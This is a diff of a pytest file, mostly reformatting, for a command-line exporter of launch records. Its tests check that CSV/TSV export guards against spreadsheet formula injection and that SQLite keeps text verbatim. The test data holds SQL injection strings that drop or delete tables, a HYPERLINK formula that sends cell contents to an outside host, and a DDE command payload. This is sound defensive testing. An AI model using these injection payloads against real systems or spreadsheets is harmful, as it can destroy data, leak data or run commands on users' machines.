@@ -20,7 +20,7 @@ HOSTILE = {
     "name": 'x"); DELETE FROM launch_observations; --',
     "payload": "Robert'); DROP TABLE timeline;--",
     "launch_site": "?; ATTACH DATABASE 'evil.db' AS evil; --",
-    "landing_area": "=HYPERLINK(\"http://example.invalid/?\"&A1)",
+    "landing_area": '=HYPERLINK("http://example.invalid/?"&A1)',
 }
 
 
@@ -56,14 +56,21 @@ def test_guard_off_only_when_asked(run, hostile, fmt, delimiter):
 
 
 def test_guard_applies_to_exploded_and_nested_columns_in_files(run, repo, hostile):
-    record = sample("launch", id="2023-09-01-nested", date="2023-09-01",
-                    observations=[{"actor": "=1+1", "actor_type": "other", "stance": "claim"}], tags=["@tag"])
+    record = sample(
+        "launch",
+        id="2023-09-01-nested",
+        date="2023-09-01",
+        observations=[{"actor": "=1+1", "actor_type": "other", "stance": "claim"}],
+        tags=["@tag"],
+    )
     write_record(repo, "launch", record)
     assert run("export", "launches", "--where", "id=2023-09-01-nested", "-o", "nested.csv").exit_code == 0
     (row,) = rows((repo / "nested.csv").read_text(encoding="utf-8"), ",")
     assert row["observations.actor"] == '["=1+1"]'  # a list cell is a JSON array: it starts with [, never a formula
     assert row["tags"] == '["@tag"]'
-    exploded = run("export", "launches", "--where", "id=2023-09-01-nested", "--explode", "observations", "--format", "tsv")
+    exploded = run(
+        "export", "launches", "--where", "id=2023-09-01-nested", "--explode", "observations", "--format", "tsv"
+    )
     (row,) = rows(exploded.stdout, "\t")
     assert row["observations.actor"] == "'=1+1"
 
@@ -74,8 +81,12 @@ def test_sqlite_stores_hostile_text_verbatim(run, repo, hostile):
     db = sqlite3.connect(repo / "dprk.sqlite")
     try:
         columns = ", ".join(HOSTILE)
-        assert db.execute(f"SELECT {columns} FROM launch WHERE id = ?", ("2023-08-31-sql",)).fetchone() == tuple(HOSTILE.values())
-        formulas = db.execute(f"SELECT {', '.join(FIELDS)} FROM launch WHERE id = ?", ("2023-08-30-formulas",)).fetchone()
+        assert db.execute(f"SELECT {columns} FROM launch WHERE id = ?", ("2023-08-31-sql",)).fetchone() == tuple(
+            HOSTILE.values()
+        )
+        formulas = db.execute(
+            f"SELECT {', '.join(FIELDS)} FROM launch WHERE id = ?", ("2023-08-30-formulas",)
+        ).fetchone()
         assert formulas == tuple(hostile.values())  # no guard in a database: the text as it is
         tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type IN ('table', 'view')")}
         assert {"launch", "launch_observations", "timeline"} <= tables
@@ -89,8 +100,18 @@ def test_sqlite_stores_hostile_text_verbatim(run, repo, hostile):
 @pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
 def test_a_line_break_inside_a_cell_cannot_start_a_row(run, repo, fmt, delimiter):
     """A cell holding CR or LF is quoted, so `x<CR>=cmd()` stays one cell and never becomes a fresh, unguarded row."""
-    write_record(repo, "launch", sample("launch", id="2023-09-02-breaks", date="2023-09-02",
-                                       name="ok\r=cmd|' /C calc'!A0", payload="ok\n@SUM(A1)", launch_site="ok\t+1"))
+    write_record(
+        repo,
+        "launch",
+        sample(
+            "launch",
+            id="2023-09-02-breaks",
+            date="2023-09-02",
+            name="ok\r=cmd|' /C calc'!A0",
+            payload="ok\n@SUM(A1)",
+            launch_site="ok\t+1",
+        ),
+    )
     result = run("export", "launches", "--format", fmt, "--where", "id=2023-09-02-breaks")
     assert result.exit_code == 0, result.output
     (row,) = rows(result.stdout, delimiter)
@@ -132,4 +153,7 @@ def test_sqlite_export_refuses_a_log_left_from_an_older_database_without_force(r
     (repo / "dprk.sqlite-journal").write_bytes(b"left by a database since removed")
     result = run("export", "--format", "sqlite", "-o", "dprk.sqlite")
     assert result.exit_code == 2 and "dprk.sqlite-journal" in result.stderr
-    assert not (repo / "dprk.sqlite").exists() and (repo / "dprk.sqlite-journal").read_bytes() == b"left by a database since removed"
+    assert (
+        not (repo / "dprk.sqlite").exists()
+        and (repo / "dprk.sqlite-journal").read_bytes() == b"left by a database since removed"
+    )
